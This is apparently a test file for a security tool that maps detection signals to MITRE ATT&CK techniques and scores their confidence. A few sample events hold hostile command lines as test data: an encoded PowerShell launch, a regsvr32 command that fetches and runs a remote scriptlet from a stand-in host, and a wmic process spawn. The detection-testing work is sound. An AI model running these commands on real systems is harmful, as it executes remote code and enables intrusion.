import { loadAttackCatalog } from '../attack';
import type { RuleRef } from '../model';
import { makeSignal, type Signal } from '../correlate/signal';
import { event, lookupOf } from '../correlate/testing/events';
import { buildTechniques, withParentTechniques } from './index';

const catalog = loadAttackCatalog();
const events = Array.from({ length: 10 }, (_, i) => event(i, `2026-01-01T00:00:0${i}Z`, { outcome: 'success' }));
const lookup = lookupOf(events);

function signal(rule: Partial<RuleRef> & { tags: string[] }, indices = [0], outcome?: 'failure'): Signal {
  const s = makeSignal('detection', rule.id ?? 'x', { id: 'x', title: 'x', level: 'medium', ...rule }, indices, lookup, catalog);
  if (outcome) s.outcome = outcome;
  return s;
}

describe('ATT&CK mapping', () => {
  it('maps a rule tagged with a parent and its sub-technique to the sub-technique, with name and tactic from the catalog', () => {
    const [t] = buildTechniques([signal({ id: 'a', level: 'high', tags: ['attack.execution', 'attack.t1059', 'attack.t1059.001'] })], catalog);
    expect(t).toMatchObject({ technique_id: 'T1059.001', name: 'Command and Scripting Interpreter: PowerShell', tactic: 'Execution', rule_ids: ['a'] });
  });

  it('resolves revoked ids to the current technique', () => {
    const [t] = buildTechniques([signal({ id: 'a', tags: ['attack.t1086'] })], catalog);
    expect(t.technique_id).toBe('T1059.001');
  });

  it('chooses the tactic the rule is tagged with when a technique has several', () => {
    const [t] = buildTechniques([signal({ id: 'a', tags: ['attack.privilege-escalation', 'attack.t1078'] })], catalog);
    expect(t.tactic).toBe('Privilege Escalation');
  });

  it('rates a stable critical rule above a high one, a high above an experimental low one, and failed attempts lower', () => {
    const conf = (rule: Partial<RuleRef>, outcome?: 'failure') => buildTechniques([signal({ tags: ['attack.t1003.001'], ...rule }, [0], outcome)], catalog, { minConfidence: 0 })[0].confidence;
    expect(conf({ level: 'critical', status: 'stable' })).toBeGreaterThan(conf({ level: 'high', status: 'test' }));
    expect(conf({ level: 'high', status: 'test' })).toBeGreaterThan(conf({ level: 'low', status: 'experimental' }));
    expect(conf({ level: 'high' }, 'failure')).toBeLessThan(conf({ level: 'high' }));
  });

  it('raises confidence with independent rules and more events', () => {
    const one = buildTechniques([signal({ id: 'a', tags: ['attack.t1033'] })], catalog)[0].confidence;
    const two = buildTechniques([signal({ id: 'a', tags: ['attack.t1033'] }), signal({ id: 'b', tags: ['attack.t1033'] }, [1, 2, 3, 4])], catalog)[0].confidence;
    expect(two).toBeGreaterThan(one);
  });

  it('keeps informational noise out and caps the list', () => {
    expect(buildTechniques([signal({ level: 'informational', status: 'experimental', tags: ['attack.t1033'] })], catalog, { minConfidence: 20 })).toEqual([]);
    const many = Array.from({ length: 30 }, (_, i) => signal({ id: `r${i}`, level: 'high', tags: [`attack.t${1001 + i}`] }));
    expect(buildTechniques(many, catalog).length).toBeLessThanOrEqual(15);
  });
});

describe('ATT&CK mapping: ambiguous sub-techniques', () => {
  it('maps a rule that names several sibling sub-techniques to their parent', () => {
    const s = makeSignal('detection', 'm', { id: 'm', title: 'Mimikatz Use', level: 'high', tags: ['attack.credential-access', 'attack.t1003.001', 'attack.t1003.002', 'attack.t1003.006'] }, [0], lookup, catalog);
    expect(buildTechniques([s], catalog).map((t) => t.technique_id)).toEqual(['T1003']);
  });

  it('still reports the specific sub-technique when another rule pins it down', () => {
    const broad = makeSignal('detection', 'm', { id: 'm', title: 'Mimikatz Use', level: 'high', tags: ['attack.t1003.001', 'attack.t1003.002'] }, [0], lookup, catalog);
    const lsass = makeSignal('detection', 'l', { id: 'l', title: 'LSASS access', level: 'high', tags: ['attack.t1003.001'] }, [1], lookup, catalog);
    const [t] = buildTechniques([broad, lsass], catalog);
    expect(t).toMatchObject({ technique_id: 'T1003.001', rule_ids: ['l', 'm'] });
  });
});

describe('ATT&CK mapping: a collapsed parent corroborates only the siblings its rule named', () => {
  it('does not lend a two-sibling rule to an unrelated sibling another rule found', () => {
    const dcom = makeSignal('detection', 'd', { id: 'd', title: 'DCOM lateral movement', level: 'high', tags: ['attack.t1021.002', 'attack.t1021.003'] }, [0], lookup, catalog);
    const rdp = makeSignal('detection', 'r', { id: 'r', title: 'RDP logon', level: 'low', tags: ['attack.t1021.001'] }, [1], lookup, catalog);
    const mapped = buildTechniques([dcom, rdp], catalog, { minConfidence: 0 });
    const byId = new Map(mapped.map((t) => [t.technique_id, t]));
    expect(byId.get('T1021.001')?.rule_ids).toEqual(['r']);
    expect(byId.get('T1021')?.rule_ids).toEqual(['d']);
    expect(byId.get('T1021')!.confidence).toBeGreaterThan(byId.get('T1021.001')!.confidence);
  });

  it('a rule tagged with the parent only corroborates the sub-technique found on the same event, and stays apart otherwise', () => {
    const parentOnly = (index: number) => makeSignal('detection', 'p', { id: 'p', title: 'Remote services', level: 'medium', tags: ['attack.t1021'] }, [index], lookup, catalog);
    const rdp = makeSignal('detection', 'r', { id: 'r', title: 'RDP logon', level: 'high', tags: ['attack.t1021.001'] }, [1], lookup, catalog);
    const same = buildTechniques([parentOnly(1), rdp], catalog);
    expect(same.map((t) => t.technique_id)).toEqual(['T1021.001']);
    expect(same[0].rule_ids).toEqual(['r', 'p']);
    const apart = buildTechniques([parentOnly(5), rdp], catalog);
    expect(apart.map((t) => t.technique_id).sort()).toEqual(['T1021', 'T1021.001']);
    expect(apart.find((t) => t.technique_id === 'T1021.001')?.rule_ids).toEqual(['r']);
  });
});

describe('attack_mapping lists each sub-technique with its technique', () => {
  it('adds the parent, as certain as its best sub-technique, naming the sub-techniques and citing their evidence', () => {
    const lsass = makeSignal('detection', 'l', { id: 'l', title: 'LSASS access', level: 'high', tags: ['attack.credential-access', 'attack.t1003.001'] }, [1], lookup, catalog);
    const sam = makeSignal('detection', 's', { id: 's', title: 'SAM hive dump', level: 'medium', tags: ['attack.t1003.002'] }, [2], lookup, catalog);
    const who = makeSignal('detection', 'w', { id: 'w', title: 'whoami', level: 'medium', tags: ['attack.t1033'] }, [3], lookup, catalog);
    const specific = buildTechniques([lsass, sam, who], catalog);
    const listed = withParentTechniques(specific, catalog);
    expect(listed.map((t) => t.technique_id).sort()).toEqual(['T1003', 'T1003.001', 'T1003.002', 'T1033']);
    expect(listed.map((t) => t.confidence)).toEqual([...listed.map((t) => t.confidence)].sort((a, b) => b - a));
    const parent = listed.find((t) => t.technique_id === 'T1003')!;
    expect(parent).toMatchObject({ name: 'OS Credential Dumping', tactic: 'Credential Access', sub_techniques: ['T1003.001', 'T1003.002'], rule_ids: ['l', 's'], event_indices: [1, 2] });
    expect(parent.confidence).toBe(Math.max(...specific.filter((t) => t.technique_id.startsWith('T1003.')).map((t) => t.confidence)));
    expect(listed.indexOf(parent)).toBeLessThan(listed.findIndex((t) => t.technique_id === 'T1003.001'));
    expect(listed.find((t) => t.technique_id === 'T1033')?.sub_techniques).toBeUndefined();
  });

  it('keeps a parent that has evidence of its own at the higher of the two confidences', () => {
    const dcom = makeSignal('detection', 'd', { id: 'd', title: 'DCOM', level: 'critical', tags: ['attack.t1021.002', 'attack.t1021.003'] }, [0], lookup, catalog);
    const rdp = makeSignal('detection', 'r', { id: 'r', title: 'RDP', level: 'low', tags: ['attack.t1021.001'] }, [1], lookup, catalog);
    const specific = buildTechniques([dcom, rdp], catalog, { minConfidence: 0 });
    const listed = withParentTechniques(specific, catalog);
    const parent = listed.find((t) => t.technique_id === 'T1021')!;
    expect(listed.filter((t) => t.technique_id === 'T1021')).toHaveLength(1);
    expect(parent.confidence).toBe(specific.find((t) => t.technique_id === 'T1021')!.confidence);
    expect(parent.sub_techniques).toEqual(['T1021.001']);
  });
});

describe('confidence of a low-level step inside the main attack chain', () => {
  it('lifts whoami after an attacker logon halfway to the chain strength, and only inside that chain', () => {
    const logon = makeSignal('detection', 'l', { id: 'l', title: 'External logon', level: 'critical', status: 'stable', tags: ['attack.t1078'] }, [0], lookup, catalog);
    const whoami = makeSignal('detection', 'w', { id: 'w', title: 'whoami', level: 'low', status: 'test', tags: ['attack.t1033'] }, [1], lookup, catalog);
    const alone = buildTechniques([logon, whoami], catalog).find((t) => t.technique_id === 'T1033')!.confidence;
    const inChain = buildTechniques([logon, whoami], catalog, { primarySignals: new Set([logon, whoami]), primaryMultiStage: true }).find((t) => t.technique_id === 'T1033')!.confidence;
    expect(inChain).toBeGreaterThanOrEqual(alone + 20);
    expect(inChain).toBeLessThan(buildTechniques([logon], catalog)[0].confidence);
  });
});

describe('confidence of broad rules', () => {
  it('rates each technique of a catch-all rule naming many techniques below the same rule naming one, and does not lift it in a chain', () => {
    const logon = makeSignal('detection', 'l', { id: 'l', title: 'External logon', level: 'critical', tags: ['attack.t1078'] }, [0], lookup, catalog);
    const focused = makeSignal('detection', 'f', { id: 'f', title: 'net share', level: 'low', tags: ['attack.t1135'] }, [1], lookup, catalog);
    const broad = makeSignal('detection', 'b', { id: 'b', title: 'Net.EXE Execution', level: 'low', tags: ['attack.t1007', 'attack.t1049', 'attack.t1018', 'attack.t1135', 'attack.t1201', 'attack.t1069.001', 'attack.t1087.001', 'attack.t1021.002'] }, [1], lookup, catalog);
    const chain = (s: Signal) => ({ primarySignals: new Set([logon, s]), primaryMultiStage: true, minConfidence: 0 });
    const of = (s: Signal) => buildTechniques([logon, s], catalog, chain(s)).find((t) => t.technique_id === 'T1135')!.confidence;
    expect(of(broad)).toBeLessThan(of(focused) - 20);
    expect(buildTechniques([broad], catalog, { minConfidence: 0 }).find((t) => t.technique_id === 'T1135')!.confidence)
      .toBeLessThan(buildTechniques([focused], catalog, { minConfidence: 0 })[0].confidence);
  });
});

describe('hunting leads', () => {
  const tags = ['attack.t1007', 'attack.t1049', 'attack.t1018', 'attack.t1135'];
  it('a low-level rule naming several techniques maps none of them on its own', () => {
    expect(buildTechniques([makeSignal('detection', 'b', { id: 'b', title: 'Net.EXE Execution', level: 'low', tags }, [1], lookup, catalog)], catalog)).toEqual([]);
  });

  it('a high-level hack-tool rule naming several techniques still maps them, and a low one corroborates a focused finding', () => {
    expect(buildTechniques([makeSignal('detection', 't', { id: 't', title: 'HackTool', level: 'high', tags }, [1], lookup, catalog)], catalog)).toHaveLength(4);
    const focused = makeSignal('detection', 'f', { id: 'f', title: 'net share', level: 'medium', tags: ['attack.t1135'] }, [1], lookup, catalog);
    const lead = makeSignal('detection', 'b', { id: 'b', title: 'Net.EXE Execution', level: 'low', tags }, [1], lookup, catalog);
    expect(buildTechniques([focused, lead], catalog).map((t) => t.technique_id)).toEqual(['T1135']);
  });
});

describe('program techniques of a broad rule', () => {
  const officeChild = (child: string, commandLine: string) => {
    const e = event(0, '2026-03-02T09:14:09Z', { action: 'process_create', entities: { process: child, commandLine, parentProcess: 'WINWORD.EXE', host: 'ws-1' } });
    const lookupOne = lookupOf([e]);
    const s = makeSignal('detection', 'o', { id: 'o', title: 'Suspicious Microsoft Office Child Process', level: 'high', tags: ['attack.execution', 'attack.t1047', 'attack.t1204.002', 'attack.t1218.010'] }, [0], lookupOne, catalog);
    return buildTechniques([s], catalog, { lookup: lookupOne }).map((t) => t.technique_id).sort();
  };

  it('keeps only the programs that ran: PowerShell under Word is neither WMI nor Regsvr32', () => {
    expect(officeChild('powershell.exe', 'powershell.exe -nop -enc SQBFAFgA')).toEqual(['T1204.002']);
  });

  it('keeps the program technique when that program ran', () => {
    expect(officeChild('regsvr32.exe', 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll')).toEqual(['T1204.002', 'T1218.010']);
    expect(officeChild('cmd.exe', 'cmd /c wmic process call create calc')).toEqual(['T1047', 'T1204.002']);
  });
});

describe('resource development on host telemetry', () => {
  it('a known-tool tag (Obtain Capabilities: Tool) corroborates but never maps on its own; what the tool did does', () => {
    const tool = makeSignal('detection', 'h', { id: 'h', title: 'HackTool - Mimikatz Execution', level: 'high', tags: ['attack.resource-development', 'attack.t1588.002', 'attack.credential-access', 'attack.t1003.001'] }, [0], lookup, catalog);
    expect(buildTechniques([tool], catalog).map((t) => t.technique_id)).toEqual(['T1003.001']);
    expect(buildTechniques([tool], catalog, { minConfidence: 0 }).find((t) => t.technique_id === 'T1588.002')!.confidence).toBeLessThan(20);
  });
});
